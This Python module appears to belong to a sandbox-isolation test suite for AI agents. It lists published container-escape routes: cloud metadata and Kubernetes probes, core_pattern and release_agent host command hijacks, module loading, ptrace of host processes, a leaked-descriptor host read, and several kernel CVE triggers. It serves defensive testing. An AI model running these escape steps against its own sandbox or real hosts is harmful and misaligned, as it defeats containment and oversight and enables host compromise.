"""Whole ways out of containers that have been published, each with what it needs first. They end at the first step that is refused.

The kinds are those of SandboxEscapeBench (arXiv 2603.02277): orchestration, engine and runtime, kernel. The attempts are our own.
"""

from __future__ import annotations

import glob
import os
import socket
import struct
import subprocess
from functools import partial
from pathlib import Path

from .base import Family, call, libc

__all__ = ["FAMILY"]

FAMILY = Family("network policy: not a public address", "network policy: not a public address")
_SECRET = os.environ.get("ATTACK_SECRET", "/nowhere")
_SHUT = ("ECONNREFUSED", "EHOSTUNREACH", "ENETUNREACH", "ENETDOWN", "EADDRNOTAVAIL", "ETIMEDOUT", "ECONNRESET")


def _gateway() -> str:
    for line in Path("/proc/net/route").read_text().splitlines()[1:]:
        _, destination, gateway, *_ = line.split()
        if destination == "00000000" and gateway != "00000000":
            return socket.inet_ntoa(struct.pack("<I", int(gateway, 16)))
    return "10.201.32.1"


def _connect(address: str | None, port: int) -> str:
    address = address or _gateway()
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(0.7)
        try:
            sock.connect((address, port))
        except TimeoutError as error:
            raise ConnectionRefusedError(111, "no answer") from error
        return f"connected to {sock.getpeername()}"


_SERVICES = {
    "the metadata of a cloud (AWS, Azure, OpenStack)": ("169.254.169.254", 80),
    "the credentials of a container (ECS)": ("169.254.170.2", 80),
    "the metadata of a cloud (Alibaba)": ("100.100.100.200", 80),
    "the metadata of a cloud (Oracle)": ("192.0.0.192", 80),
    "the metadata of a cloud by IPv6": ("fd00:ec2::254", 80),
    "the API of Kubernetes": ("10.96.0.1", 443),
    "the name server of Kubernetes": ("10.96.0.10", 53),
    "Docker's usual bridge": ("172.17.0.1", 2375),
    "libvirt's usual bridge": ("192.168.122.1", 22),
}
for _name, (_address, _port) in _SERVICES.items():
    FAMILY.add(f"reach {_name}", partial(_connect, _address, _port), *_SHUT)
for _name, _port in {
    "SSH": 22, "Docker": 2375, "Docker with TLS": 2376, "etcd": 2379, "the API of Kubernetes": 6443, "the kubelet": 10250,
    "the kubelet for reading": 10255, "a web server": 80, "this server": 3000, "another agent": 49983,
}.items():  # fmt: skip
    FAMILY.add(f"reach {_name} at its gateway", partial(_connect, None, _port), *_SHUT, held="the router's rules")

_ENGINE = {"namespace": "no CAP_SYS_ADMIN; seccomp", "gvisor": "no CAP_SYS_ADMIN"}


@FAMILY.attack("use a service account of Kubernetes", namespace="none is there", gvisor="none is there")
def _() -> str | None:
    named = [name for name in os.environ if name.startswith("KUBERNETES_")]
    return " ".join([*glob.glob("/var/run/secrets/**", recursive=True), *named][1:]) or None


@FAMILY.attack(
    "set kernel settings by a plus sign (CVE-2022-0811)",
    "EIO",
    "ENOENT",
    namespace="a /proc/sys of its own, read-only",
    gvisor="gVisor's /proc/sys",
)
def _() -> str:
    Path("/proc/sys/kernel/shm_rmid_forced").write_text("1+kernel.core_pattern=|/tmp/attack")
    return "set"


@FAMILY.attack(
    "have the host run a program for a crash (core_pattern)",
    "ENOENT",
    "EIO",
    namespace="a /proc/sys of its own, read-only",
    gvisor="gVisor's /proc/sys",
)
def _() -> str:
    Path("/proc/sys/kernel/core_pattern").write_text("|/tmp/attack")
    return "set"


@FAMILY.attack("mount a disk of the host", "ENXIO", "ENODEV", "ENOENT", **_ENGINE)
def _() -> str:
    disk = f"/tmp/disk-{os.getpid()}"
    for number in (os.makedev(8, 1), os.makedev(252, 1), os.makedev(253, 0), os.makedev(259, 1)):
        os.mknod(disk, 0o60600, number)
        call(165, disk.encode(), b"/mnt", b"ext4", 1, None)
    return "mounted"


@FAMILY.attack("run a program by a release agent (CVE-2022-0492)", "ENODEV", "EBUSY", "EINVAL", namespace="seccomp: no namespace is made",
               gvisor="gVisor's control groups are its own, and have no release agent")  # fmt: skip
def _() -> str:
    call(272, 0x1000_0000)
    for name, text in (("setgroups", "deny"), ("uid_map", "0 0 1"), ("gid_map", "0 0 1")):
        Path(f"/proc/self/{name}").write_text(text)
    call(272, 0x202_0000)
    call(165, b"cgroup", b"/mnt", b"cgroup", 0, b"rdma")
    Path("/mnt/release_agent").write_text("/tmp/attack")
    return "set"


@FAMILY.attack("load a module (CAP_SYS_MODULE)", namespace="no CAP_SYS_MODULE; seccomp", gvisor="gVisor has no modules")
def _() -> str | None:
    done = subprocess.run("/sbin/insmod /tmp/attack.ko || /sbin/modprobe dummy", shell=True, capture_output=True, check=False)
    return "loaded" if done.returncode == 0 else None


@FAMILY.attack("put code into a process outside (shared pids)", namespace="pid namespace", gvisor="pids of gVisor's own")
def _() -> str | None:
    """Any process that is not descended from pid 1 of the sandbox."""
    parents = {}
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                parents[int(name)] = int(Path(f"/proc/{name}/stat").read_text().rsplit(")", 1)[1].split()[1])
            except OSError:
                continue
    roots = [pid for pid, parent in parents.items() if parent not in parents and pid != 1 and Path(f"/proc/{pid}").exists()]
    return f"processes {roots}" if roots else None


@FAMILY.attack(
    "begin in a directory of the host (CVE-2024-21626)",
    "ENOENT",
    "ENOTDIR",
    namespace="no descriptor is left",
    gvisor="no descriptor is left",
)
def _() -> str | None:
    for number in range(3, 64):
        try:
            os.chdir(f"/proc/self/fd/{number}")
        except OSError:
            continue
        path = Path("/".join([".."] * 30) + _SECRET)
        if path.exists():
            return path.read_text()
    return None


@FAMILY.attack(
    "trace the agent's zygote or what made it", namespace="not dumpable; pid namespace", gvisor="no process of the host is there"
)
def _() -> str | None:
    for number in range(2, 200):
        if not Path(f"/proc/{number}").exists() and libc.ptrace(0x4206, number, 0, 0) == 0:
            return f"traced {number}"
    return None


@FAMILY.attack("raise a program by bpf (CVE-2022-23222)", namespace="seccomp", gvisor="gVisor's kernel does not have it")
def _() -> int:
    return call(321, 5, struct.pack("IIQQIIQ", 1, 1, 0, 0, 0, 0, 0) + bytes(80), 120)


@FAMILY.attack("overflow a ring of packets (CVE-2017-7308)", "EAFNOSUPPORT", namespace="seccomp; no CAP_NET_RAW", gvisor="no CAP_NET_RAW")
def _() -> str:
    with socket.socket(17, socket.SOCK_RAW, 0) as sock:
        sock.setsockopt(263, 5, struct.pack("7I", 1 << 20, 1, 1 << 11, 1 << 9, 0, 0, 0))
    return "a ring was made"


@FAMILY.attack(
    "use a filter of packets (CVE-2023-32233)", "EPROTONOSUPPORT", namespace="seccomp", gvisor="gVisor's kernel does not have it"
)
def _() -> object:
    return socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)


@FAMILY.attack(
    "use a device of FUSE to hold the kernel up (CVE-2023-0386)",
    "ENOENT",
    namespace="no such device",
    gvisor="no such mount without CAP_SYS_ADMIN",
)
def _() -> object:
    fd = os.open("/dev/fuse", os.O_RDWR)
    return call(165, b"fuse", b"/mnt", b"fuse", 0, f"fd={fd},rootmode=40000,user_id=0,group_id=0".encode())


@FAMILY.attack(
    "escape by handles of its own disk",
    "ENOTSUP",
    "EOPNOTSUPP",
    "ESTALE",
    "EINVAL",
    "EOVERFLOW",
    namespace="seccomp",
    gvisor="gVisor gives no handles",
)
def _() -> str:
    handle = struct.pack("Ii", 128, 0) + bytes(128)
    call(303, -100, b"/etc/passwd", handle, bytes(8), 0)
    return f"opened {call(304, -100, handle, 0)}"
